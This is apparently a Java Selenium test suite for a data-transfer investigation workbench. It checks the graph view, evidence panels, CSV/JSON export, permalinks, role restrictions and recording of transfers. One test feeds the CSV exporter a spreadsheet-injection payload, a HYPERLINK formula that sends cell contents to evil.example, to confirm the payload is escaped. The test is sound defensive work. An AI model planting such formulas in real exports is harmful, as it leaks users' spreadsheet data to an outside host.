package org.datatrail.workbench;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;

import org.datatrail.ingest.FactFile;
import org.datatrail.ingest.FactIngest;
import org.datatrail.security.Caller;
import org.datatrail.support.HeadlessChromium;
import org.datatrail.support.Testers;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.Keys;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.interactions.Actions;
import org.openqa.selenium.support.ui.FluentWait;
import org.openqa.selenium.support.ui.Select;
import org.openqa.selenium.support.ui.WebDriverWait;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * The investigation workbench at {@code /} in a real browser (Debian's headless Chromium through Selenium and
 * Debian's chromedriver) that can reach nothing but the app: search for the seed case, see the chain and the
 * red hop, open a transfer's evidence by clicking its arrow, follow a permalink, export CSV and JSON; roles;
 * recording a transfer; and a fan-out of 250 organisations.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class WorkbenchBrowserTests {

    static final String LCMB = "Lifecycle Marketing (Mother and Baby) Ltd";
    /** A quote of transfer-lcmb-to-experian's evidence (source 004). */
    static final String QUOTE = "The transaction took place on May 5";

    @DynamicPropertySource
    static void database(DynamicPropertyRegistry registry) {
        Testers.embeddedDatabase(registry, null);
        Testers.tokens(registry);
    }

    @LocalServerPort
    int port;

    @Autowired
    FactIngest ingest;

    @TempDir
    Path downloads;

    @Test
    void findsTheSeedCaseShowsTheRedHopItsEvidenceAPermalinkAndExports() {
        withBrowser(browser -> {
            browser.get(base() + "/");
            browser.findElement(By.id("search")).sendKeys("emmas diary");
            WebElement suggestion = wait(browser).until(b -> b.findElements(By.cssSelector("#suggestions li[data-id]")).stream()
                .filter(li -> li.getText().startsWith(LCMB)).findFirst().orElse(null));
            assertThat(suggestion.getText()).contains("also: Emma's Diary");
            suggestion.click();

            waitForStatus(browser, "3 organisations, 2 transfers in 2 chains · 1 where consent ran out");
            assertThat(browser.findElement(By.id("org-name")).getText()).isEqualTo(LCMB);
            assertThat(browser.findElement(By.id("enforcement")).getText()).contains("Information Commissioner's Office: fine GBP 140,000");
            assertThat(strings(browser, "return workbench.cy.nodes().map(n => n.data('label'))"))
                .containsExactlyInAnyOrder(LCMB, "Experian Marketing Services", "Labour Party");
            assertThat(strings(browser, "return workbench.cy.edges('.uncovered').map(e => e.id())")).containsExactly("transfer-lcmb-to-experian");
            assertThat(js(browser, "return workbench.cy.getElementById('transfer-lcmb-to-experian').style('line-color')")).isEqualTo("rgb(211,47,47)");
            assertThat(js(browser, "return workbench.cy.getElementById('transfer-experian-to-labour').style('line-color')")).isNotEqualTo("rgb(211,47,47)");
            assertThat(js(browser, "return workbench.cy.getElementById('transfer-lcmb-to-experian').data('label')")).isEqualTo("2017-05-05 · ≥1,000,000");
            assertThat(strings(browser, "return workbench.cy.edges('.children').map(e => e.id())")).hasSize(2);
            assertThat(browser.findElement(By.cssSelector("#chain-list .hop.uncovered")).getText()).contains("[2017-05-05, ≥1,000,000]");
            assertThat(browser.findElement(By.id("timeline-list")).getText()).contains("2017-05-05", "2018-01-30", "campaign");

            clickOnGraph(browser, "workbench.cy.getElementById('transfer-lcmb-to-experian').renderedMidpoint()");
            String evidence = wait(browser).until(b -> {
                String text = b.findElement(By.id("evidence")).getText();
                return text.contains(QUOTE) ? text : null;
            });
            assertThat(evidence).contains(LCMB + " → Experian Marketing Services", "Consent did not cover this use.", "Political campaigning",
                    "Financial Times", "Records Lifecycle Marketing supplied to Experian Marketing Services", "7,065,220 records", "one million mums",
                    "What the data subjects were told");
            assertThat(browser.findElements(By.cssSelector("#evidence .dispute .claims .claim")).size()).isGreaterThanOrEqualTo(6);
            String permalink = browser.getCurrentUrl();
            assertThat(permalink).contains("org=lifecycle-marketing", "sel=transfer%3Atransfer-lcmb-to-experian");
            Path shot = HeadlessChromium.screenshot(browser, "workbench");
            assertThat(shot).isNotEmptyFile();

            browser.findElement(By.id("export-csv")).click();
            String csv = downloaded("datatrail-lifecycle-marketing-chains.csv");
            assertThat(csv).startsWith("chain,hop,citation_for,from_id,from,to_id,to,transfer_id,date,record_count,");
            assertThat(csv.lines().filter(line -> line.contains(QUOTE)).findFirst()).hasValueSatisfying(row -> assertThat(row).startsWith(
                    "1,1,transfer,lifecycle-marketing," + LCMB + ",experian-marketing-services,Experian Marketing Services,transfer-lcmb-to-experian,"
                            + "2017-05-05,1000000,true,political-campaigning,Emma's Diary registrations (mothers and young children),true,false,true,")
                .endsWith(",004_bf7446b07f76cf73,,[Untitled report: Labour targeted email campaign used data illegally sold by pregnancy site],,," + QUOTE));
            assertThat(csv).contains("2,2,transfer,experian-marketing-services,Experian Marketing Services,labour-party,Labour Party,transfer-experian-to-labour",
                    "consent verdict", "the privacy policy contained no mention of selling data for political purposes");

            // a cell a spreadsheet would run as a formula gets a leading ' (CSV injection); other values stay as they are
            Object cells = ((JavascriptExecutor) browser).executeAsyncScript("""
                    const done = arguments[arguments.length - 1];
                    import('/workbench/export.js').then(m => ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+44 20 7946 0000',
                      '-1+2', '@SUM(A1:A9)', '\\tTAB', '\\rCR', 'Emma\\'s Diary', '2017-05-05', 1000000, true, null].map(m.csvCell))
                      .then(done, e => done(['failed: ' + e]));
                    """);
            assertThat(cells).isEqualTo(List.of("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"", "'+44 20 7946 0000",
                    "'-1+2", "'@SUM(A1:A9)", "'\tTAB", "\"'\rCR\"", "Emma's Diary", "2017-05-05", "1000000", "true", ""));

            browser.findElement(By.id("export-json")).click();
            JsonNode json = JsonMapper.builder().build().readTree(downloaded("datatrail-lifecycle-marketing-chains.json"));
            assertThat(json.path("permalink").asString()).isEqualTo(permalink);
            assertThat(json.path("chains")).hasSize(2);
            JsonNode hop = json.path("chains").path(1).path("hops").path(0);
            assertThat(hop.path("consentRanOutHere").asBoolean()).isTrue();
            assertThat(hop.path("evidence").valueStream().map(e -> e.path("quote").asString())).contains(QUOTE);
            assertThat(json.path("chains").path(1).path("hops").path(1).path("to").path("name").asString()).isEqualTo("Labour Party");

            // the permalink reopens the same view, evidence included, in a fresh page
            browser.get("about:blank");
            browser.get(permalink);
            waitForStatus(browser, "3 organisations, 2 transfers in 2 chains · 1 where consent ran out");
            wait(browser).until(b -> b.findElement(By.id("evidence")).getText().contains(QUOTE));

            // a control changes the URL, and that link reopens with the control set
            WebElement hops = browser.findElement(By.id("hops"));
            new Select(browser.findElement(By.id("dir"))).selectByValue("down");
            hops.sendKeys(Keys.chord(Keys.CONTROL, "a"), "1", Keys.TAB);
            waitForStatus(browser, "2 organisations, 1 transfer in 1 chain · 1 where consent ran out");
            String shorter = browser.getCurrentUrl();
            assertThat(shorter).contains("hops=1");
            browser.get(shorter);
            waitForStatus(browser, "2 organisations, 1 transfer in 1 chain · 1 where consent ran out");
            assertThat(browser.findElement(By.id("hops")).getAttribute("value")).isEqualTo("1");

            // the timeline of everyone on the chains has Experian's onward transfer; that of Emma's Diary alone does not
            wait(browser).until(b -> b.findElement(By.id("timeline-list")).getText().contains("Experian Marketing Services passed"));
            new Select(browser.findElement(By.id("tl"))).selectByValue("org");
            wait(browser).until(b -> {
                String timeline = b.findElement(By.id("timeline-list")).getText();
                return !timeline.contains("Experian Marketing Services passed") && timeline.contains("2017-05-05") ? timeline : null;
            });
            assertThat(browser.getCurrentUrl()).contains("hops=1", "tl=org");
        });
    }

    @Test
    void aLinkWithTooManyHopsOrMalformedDatesIsClampedAndTracesAnyway() {
        withBrowser(browser -> {
            // the API takes at most 8 hops and Date as YYYY-MM-DD: sent as they are, these would fail the trace
            browser.get(base() + "/?org=lifecycle-marketing&hops=20&since=5%2F5%2F2017&until=2017-02-30");
            waitForStatus(browser, "3 organisations, 2 transfers in 2 chains · 1 where consent ran out");
            assertThat(browser.findElement(By.id("hops")).getAttribute("value")).isEqualTo("8");
            assertThat(browser.findElement(By.id("since")).getAttribute("value")).isEmpty();
            assertThat(browser.findElement(By.id("until")).getAttribute("value")).isEmpty();
            assertThat(browser.findElement(By.id("message")).isDisplayed()).isFalse();
            assertThat(browser.getCurrentUrl()).contains("hops=8").doesNotContain("since=", "until=");

            browser.get(base() + "/?org=lifecycle-marketing&hops=0&until=2017-05-05");
            waitForStatus(browser, "2 organisations, 1 transfer in 1 chain · 1 where consent ran out");
            assertThat(browser.findElement(By.id("hops")).getAttribute("value")).isEqualTo("1");
            assertThat(browser.findElement(By.id("until")).getAttribute("value")).isEqualTo("2017-05-05");
        });
    }

    @Test
    void aJournalistSeesNoRecordingControlsAndTheApiRefusesAMutationAnyway() {
        withBrowser(browser -> {
            browser.get(base() + "/?org=lifecycle-marketing");
            waitForStatus(browser, "3 organisations, 2 transfers in 2 chains · 1 where consent ran out");
            assertThat(browser.findElement(By.id("role")).getText()).isEqualTo("JOURNALIST");
            assertThat(browser.findElement(By.id("record")).isDisplayed()).isFalse();
            assertThat(browser.findElements(By.cssSelector("form#record-transfer button")).stream().noneMatch(WebElement::isDisplayed)).isTrue();

            Object answer = ((JavascriptExecutor) browser).executeAsyncScript("""
                    const done = arguments[arguments.length - 1];
                    fetch('/graphql', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ query:
                      'mutation { recordOrganisation(input: { id: "sneaky", name: "Sneaky Ltd", types: [OTHER], evidence: [{ source: "003_a492018db8ce563d", quote: "Tweekaboo Limited" }] }) { id } }' }) })
                      .then(r => r.text()).then(done, e => done('failed: ' + e));
                    """);
            assertThat(String.valueOf(answer)).contains("FORBIDDEN").doesNotContain("\"id\":\"sneaky\"");
        });
    }

    @Test
    void anInvestigatorRecordsATransferWithEvidenceFromThePageAndItAppears() {
        withBrowser(browser -> {
            browser.get(base() + "/?org=facebook");
            waitForStatus(browser, "2 organisations, 1 transfer in 1 chain · 1 where consent ran out");
            browser.findElement(By.id("token")).sendKeys(Testers.INVESTIGATOR_TOKEN);
            browser.findElement(By.id("use-token")).click();
            wait(browser).until(b -> b.findElement(By.id("role")).getText().equals("INVESTIGATOR"));
            // the message comes once the vocabulary and the organisation have been loaded again for the investigator
            wait(browser).until(b -> b.findElement(By.id("message")).getText().equals("Token accepted: you may record findings."));
            assertThat(browser.getCurrentUrl()).doesNotContain(Testers.INVESTIGATOR_TOKEN);
            WebElement form = browser.findElement(By.id("record-transfer"));
            assertThat(form.isDisplayed()).isTrue();
            assertThat(new Select(form.findElement(By.name("source"))).getOptions().stream().map(o -> o.getAttribute("value")))
                .contains("003_a492018db8ce563d", "004_bf7446b07f76cf73");
            assertThat(browser.findElement(By.id("org-name")).getText()).isEqualTo("Facebook");

            form.findElement(By.name("id")).sendKeys("transfer-facebook-to-tweekaboo");
            WebElement from = form.findElement(By.name("from"));
            from.clear();
            from.sendKeys("facebook");
            WebElement to = form.findElement(By.name("to"));
            to.sendKeys("tweekabo");
            form.findElement(By.name("dataset")).sendKeys("facebook-user-profiles");
            js(browser, "arguments[0].value = '2018-03-01'", form.findElement(By.name("date")));
            form.findElement(By.name("recordCount")).sendKeys("1200");
            new Select(form.findElement(By.name("purposes"))).selectByValue("data-resale");
            new Select(form.findElement(By.name("source"))).selectByValue("003_a492018db8ce563d");
            form.findElement(By.name("quote")).sendKeys("Tweekaboo Limited, another pregnancy company");
            form.findElement(By.cssSelector("button[type=submit]")).click();
            // a wrong id is refused by the API, naming the field; the form keeps what was typed
            wait(browser).until(b -> b.findElement(By.id("record-result")).getText().equals("Not recorded: Refused, nothing was written: "
                    + "input.to: unknown organisation 'tweekabo'; expected the id of an organisation defined in the input or already in the database"));
            to.sendKeys("o");
            form.findElement(By.cssSelector("button[type=submit]")).click();

            wait(browser).withMessage(() -> "record result, was '" + browser.findElement(By.id("record-result")).getText() + "'; message '"
                    + browser.findElement(By.id("message")).getText() + "'")
                .until(b -> b.findElement(By.id("record-result")).getText()
                    .equals("Recorded transfer transfer-facebook-to-tweekaboo: Facebook → Tweekaboo Limited on 2018-03-01."));
            waitForStatus(browser, "3 organisations, 2 transfers in 2 chains · 2 where consent ran out");
            assertThat(strings(browser, "return workbench.cy.nodes().map(n => n.data('label'))")).contains("Tweekaboo Limited");
            assertThat(browser.findElement(By.id("chain-list")).getText()).contains("Facebook → [2018-03-01, 1,200] → Tweekaboo Limited");
        });
        Testers.graphQl(port).document("{ transfer(id: \"transfer-facebook-to-tweekaboo\") { evidence { quote source { id } } } }").execute()
            .path("transfer.evidence[0].quote").entity(String.class).isEqualTo("Tweekaboo Limited, another pregnancy company");
    }

    @Test
    void drawsAFanOutOf250OrganisationsWithNoNameOverlappingAnotherAndStaysUsable() {
        ingest.ingest(List.of(FactFile.of("fan-out", JsonMapper.builder().build().valueToTree(fanOut(250)))), Caller.system("test fan-out"));
        withBrowser(browser -> {
            browser.get(base() + "/?org=fanout-hub");
            // the list was recorded without any consent, so no use of it is covered: every arrow is red
            waitForStatus(browser, "251 organisations, 250 transfers in 250 chains · 250 where consent ran out");
            assertThat(js(browser, "return workbench.cy.scratch('layout')")).isEqualTo("rings");
            assertThat(js(browser, """
                    const boxes = workbench.cy.nodes().map(n => n.boundingBox({ includeLabels: true }));
                    let overlaps = 0;
                    for (let i = 0; i < boxes.length; i++) for (let j = i + 1; j < boxes.length; j++) {
                      const a = boxes[i], b = boxes[j];
                      if (a.x1 < b.x2 && b.x1 < a.x2 && a.y1 < b.y2 && b.y1 < a.y2) overlaps++;
                    }
                    return overlaps;""")).isEqualTo(0L);

            double before = ((Number) js(browser, "return workbench.cy.zoom()")).doubleValue();
            browser.findElement(By.id("zoom-in")).click();
            assertThat(((Number) js(browser, "return workbench.cy.zoom()")).doubleValue()).isGreaterThan(before);
            js(browser, "const n = workbench.cy.getElementById('fanout-buyer-123'); workbench.cy.zoom(1.2); workbench.cy.center(n)");
            clickOnGraph(browser, "workbench.cy.getElementById('fanout-buyer-123').renderedPosition()");
            wait(browser).until(b -> b.findElement(By.id("evidence")).getText().contains("Fan-out Buyer 123 Ltd"));
            assertThat(browser.findElements(By.cssSelector("#chain-list > li.chain"))).hasSize(200);
            HeadlessChromium.screenshot(browser, "workbench-250");
        });
    }

    /** One hub that passed one list to {@code n} buyers, all recorded with evidence from a test source. */
    static Map<String, Object> fanOut(int n) {
        List<Map<String, Object>> evidence = List.of(Map.of("source", "test-fan-out-register", "quote", "The hub sold its list to every buyer"));
        List<Object> organisations = new ArrayList<>();
        List<Object> transfers = new ArrayList<>();
        organisations.add(Map.of("id", "fanout-hub", "name", "Fan-out Hub Ltd", "types", List.of("DATA_BROKER"), "evidence", evidence));
        for (int i = 1; i <= n; i++) {
            String id = "fanout-buyer-%03d".formatted(i);
            organisations.add(Map.of("id", id, "name", "Fan-out Buyer %d Ltd".formatted(i), "types", List.of("OTHER"), "evidence", evidence));
            transfers.add(Map.of("id", "transfer-fanout-%03d".formatted(i), "from", "fanout-hub", "to", id, "dataset", "fanout-list",
                    "date", "2019-01-%02d".formatted(1 + i % 28), "recordCount", 1000 + i, "purposes", List.of("data-resale"), "evidence", evidence));
        }
        Map<String, Object> document = new LinkedHashMap<>();
        document.put("sources", List.of(Map.of("id", "test-fan-out-register", "title", "Test register of a fan-out", "publisher", "DataTrail tests")));
        document.put("organisations", organisations);
        document.put("datasets", List.of(Map.of("id", "fanout-list", "name", "Fan-out list", "heldBy", "fanout-hub",
                "dataCategories", List.of("household-address"), "subjectGroups", List.of("adults"), "evidence", evidence)));
        document.put("transfers", transfers);
        return document;
    }

    private String base() {
        return "http://localhost:" + port;
    }

    private void withBrowser(Consumer<WebDriver> test) {
        WebDriver browser = HeadlessChromium.start(downloads);
        try {
            test.accept(browser);
        }
        finally {
            browser.quit();
        }
    }

    private static WebDriverWait wait(WebDriver browser) {
        return new WebDriverWait(browser, Duration.ofSeconds(60));
    }

    private static void waitForStatus(WebDriver browser, String status) {
        wait(browser).withMessage(() -> "graph status '" + status + "', was '" + browser.findElement(By.id("graph-status")).getText() + "'")
            .until(b -> b.findElement(By.id("graph-status")).getText().equals(status));
    }

    private static Object js(WebDriver browser, String script, Object... args) {
        return ((JavascriptExecutor) browser).executeScript(script, args);
    }

    @SuppressWarnings("unchecked")
    private static List<String> strings(WebDriver browser, String script) {
        return (List<String>) js(browser, script);
    }

    /** A real mouse click on the graph's canvas at a rendered position (a JS expression giving {x, y}). */
    @SuppressWarnings("unchecked")
    private static void clickOnGraph(WebDriver browser, String position) {
        WebElement graph = browser.findElement(By.id("graph"));
        Map<String, Number> at = (Map<String, Number>) js(browser, "const p = " + position
                + "; const g = document.getElementById('graph'); return { x: p.x - g.clientWidth / 2, y: p.y - g.clientHeight / 2 };");
        new Actions(browser).moveToElement(graph, at.get("x").intValue(), at.get("y").intValue()).click().perform();
    }

    /** Waits (explicitly, up to 30 s) until the browser has finished saving {@code name}, then reads and removes it. */
    private String downloaded(String name) {
        Path file = downloads.resolve(name);
        new FluentWait<>(file).withTimeout(Duration.ofSeconds(30)).pollingEvery(Duration.ofMillis(100))
            .withMessage(name + " downloaded into " + downloads)
            .until(f -> Files.isRegularFile(f) && !Files.exists(downloads.resolve(name + ".crdownload")));
        try {
            String text = Files.readString(file, StandardCharsets.UTF_8);
            Files.delete(file);
            return text;
        }
        catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
